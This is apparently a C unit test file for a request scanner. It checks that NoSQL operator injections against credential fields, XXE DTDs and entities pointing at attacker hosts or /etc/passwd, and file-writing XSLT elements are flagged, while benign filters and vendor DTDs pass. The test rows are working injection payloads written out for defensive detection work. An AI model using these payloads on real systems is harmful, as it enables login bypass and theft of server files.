/* test_payload_rte2.c - helper e's red-team rows, session 25: a MongoDB
 * query operator draws a kill when it makes a credential check constant
 * or runs code, and stays below it as a comparison on a data field (the
 * filters Strapi, Parse, Directus and FeathersJS take on purpose); the
 * DTDs tools' configuration files name on their owners' hosts (Jetty on
 * eclipse.org, TestNG on testng.org) are no external DTD; XSLT elements
 * that write a file. Scores are checked against the kill line (60,
 * deploy/rules.yaml) as a whole query string, a form body and a JSON body. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/unit/payload_rt_table.h"

#define KILL 60

enum ctx { Q, JSON };

/* the highest score of kind k (any kind when k is PAYLOAD_NONE) */
static int top(const char *v, enum ctx c, enum payload_kind k, const char **why)
{
	struct payload_match m[PAYLOAD__COUNT];
	int n = c == JSON ? payload_scan_json(v, strlen(v), m, PAYLOAD__COUNT) :
			    payload_scan_query(v, strlen(v), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	int best = 0;

	*why = "";
	for (int i = 0; i < n; i++)
		if ((k == PAYLOAD_NONE || m[i].kind == k) && m[i].score > best) {
			best = m[i].score;
			*why = m[i].why;
		}
	return best;
}

struct srow {
	const char *in;
	enum ctx c;
	int kill; /* 1: nosqli at or above the kill line; 0: nothing at it */
};

static void run(const struct srow *t, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++) {
		const char *why;
		int s = top(t[i].in, t[i].c, t[i].kill ? PAYLOAD_NOSQLI : PAYLOAD_NONE, &why);

		if ((s >= KILL) != t[i].kill) {
			bad++;
			fprintf(stderr, "  FAIL %s: %d [%s] %s\n", t[i].kill ? "no kill" : "kill", s, why, t[i].in);
		}
	}
	assert_int_equal(bad, 0);
}

static void test_nosql_credential_or_code(void **state)
{
	static const struct srow t[] = {
		{ "username[$ne]=x&password[$ne]=x", Q, 1 },
		{ "login=admin&pass[$gt]=", Q, 1 },
		{ "email[$regex]=^a", Q, 1 },
		{ "token[$exists]=true", Q, 1 },
		{ "otp[$gte]=0", Q, 1 },
		{ "user%5B%24ne%5D=1", Q, 1 },
		{ "a=1&user[$nin][]=admin", Q, 1 },
		{ "filters[$or][0][password][$ne]=1", Q, 1 },
		{ "q[$where]=sleep(5000)", Q, 1 },
		{ "filters[price][$lt]=1&password[$ne]=x", Q, 1 },
		{ "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", JSON, 1 },
		{ "{\"Password\": {\"$gt\": \"\"}}", JSON, 1 },
		{ "{\"price\": {\"$lt\": 1}, \"apiKey\": {\"$exists\": true}}", JSON, 1 },
		{ "{\"$where\": \"this.password.length > 0\"}", JSON, 1 },
		{ "{\"q\": {\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}}", JSON, 1 },
		{ "{\"username\": \"admin\", \"$or\": [{}, {\"a\": \"a\"}]}", JSON, 1 },
		{ "{\"$or\": [{\"password\": {\"$ne\": 1}}, {\"a\": 1}]}", JSON, 1 },
		{ "{\"$ne\": null}", JSON, 1 },
	};

	(void)state;
	run(t, sizeof(t) / sizeof(t[0]));
}

static void test_nosql_data_field(void **state)
{
	static const struct srow t[] = {
		{ "price[$lt]=100", Q, 0 },
		{ "age[$gte]=18", Q, 0 },
		{ "filters[price][$lt]=100", Q, 0 },
		{ "where[status][$in][]=open", Q, 0 },
		{ "tags[$in][]=a&tags[$in][]=b", Q, 0 },
		{ "deleted[$ne]=true&shipping[$lte]=5", Q, 0 },
		{ "$or=1", Q, 0 },
		{ "filters[$or][0][city][$eq]=Paris&filters[$or][1][city][$eq]=Lyon", Q, 0 },
		{ "where[$and][0][price][$gte]=10", Q, 0 },
		{ "{\"age\": {\"$gte\": 18}}", JSON, 0 },
		{ "{\"dates\": {\"$gte\": \"2024-01-01\", \"$lte\": \"2024-12-31\"}}", JSON, 0 },
		{ "{\"filter\": {\"$and\": [{\"qty\": {\"$lt\": 20}}, {\"sale\": true}]}}", JSON, 0 },
		{ "{\"query\": {\"tags\": {\"$in\": [\"a\", \"b\"]}}}", JSON, 0 },
	};

	(void)state;
	run(t, sizeof(t) / sizeof(t[0]));
}

static void test_xml_owner_dtd(void **state)
{
	static const struct rtcase t[] = {
		{ "<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" \"http://www.eclipse.org/jetty/configure_9_3.dtd\">", PAYLOAD_NONE },
		{ "<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" \"https://www.eclipse.org/jetty/configure_10_0.dtd\"><Configure id=\"Server\"/>", PAYLOAD_NONE },
		{ "<!DOCTYPE suite SYSTEM \"https://testng.org/testng-1.0.dtd\"><suite name=\"s\"/>", PAYLOAD_NONE },
		{ "<!DOCTYPE suite SYSTEM \"http://testng.org/testng-1.0.dtd\" >", PAYLOAD_NONE },
		{ "<!DOCTYPE Repository PUBLIC \"-//The Apache Software Foundation//DTD Jackrabbit 2.0//EN\" \"http://jackrabbit.apache.org/dtd/repository-2.0.dtd\">", PAYLOAD_NONE },
		{ "<!DOCTYPE map PUBLIC \"-//OASIS//DTD DITA Map//EN\" \"map.dtd\">", PAYLOAD_NONE },
		{ "<!DOCTYPE sqlMap PUBLIC \"-//ibatis.apache.org//DTD SQL Map 2.0//EN\" \"http://ibatis.apache.org/dtd/sql-map-2.dtd\">", PAYLOAD_NONE },
		/* an attacker's DTD, however the identifier reads */
		{ "<!DOCTYPE map PUBLIC \"-//OASIS//DTD DITA Map//EN\" \"../../../etc/passwd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE map PUBLIC \"-//OASIS//DTD DITA Map//EN\" \"/etc/passwd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE map PUBLIC \"-//OASIS//DTD DITA Map//EN\" \"ftp://evil.example/map.dtd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE x SYSTEM \"http://evil.example/evil.dtd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE x SYSTEM \"http://attacker.example/xxe.dtd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE suite SYSTEM \"https://testng.org.evil.example/testng-1.0.dtd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE suite SYSTEM \"https://testng.org/testng.dtd?x=%file;\">", PAYLOAD_XXE },
		{ "<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" \"http://evil.example/x.dtd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE Configure PUBLIC \"-//Jetty//Configure//EN\" \"file:///etc/passwd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE x PUBLIC \"-//The Apache Software Foundation//X//EN\" \"http://evil.example/apache.dtd\">", PAYLOAD_XXE },
		{ "<!DOCTYPE suite SYSTEM \"https://testng.org/testng-1.0.dtd\" [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><suite>&x;</suite>", PAYLOAD_XXE },
		/* XSLT elements that write a file */
		{ "<xsl:result-document href=\"/var/www/html/s.php\">x</xsl:result-document>", PAYLOAD_XXE },
		{ "<xsl:template match=\"/\"><exsl:document href=\"/tmp/x.jsp\">x</exsl:document></xsl:template>", PAYLOAD_XXE },
	};

	(void)state;
	rt_run("xxe-dtd", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_nosql_credential_or_code),
		cmocka_unit_test(test_nosql_data_field),
		cmocka_unit_test(test_xml_owner_dtd),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
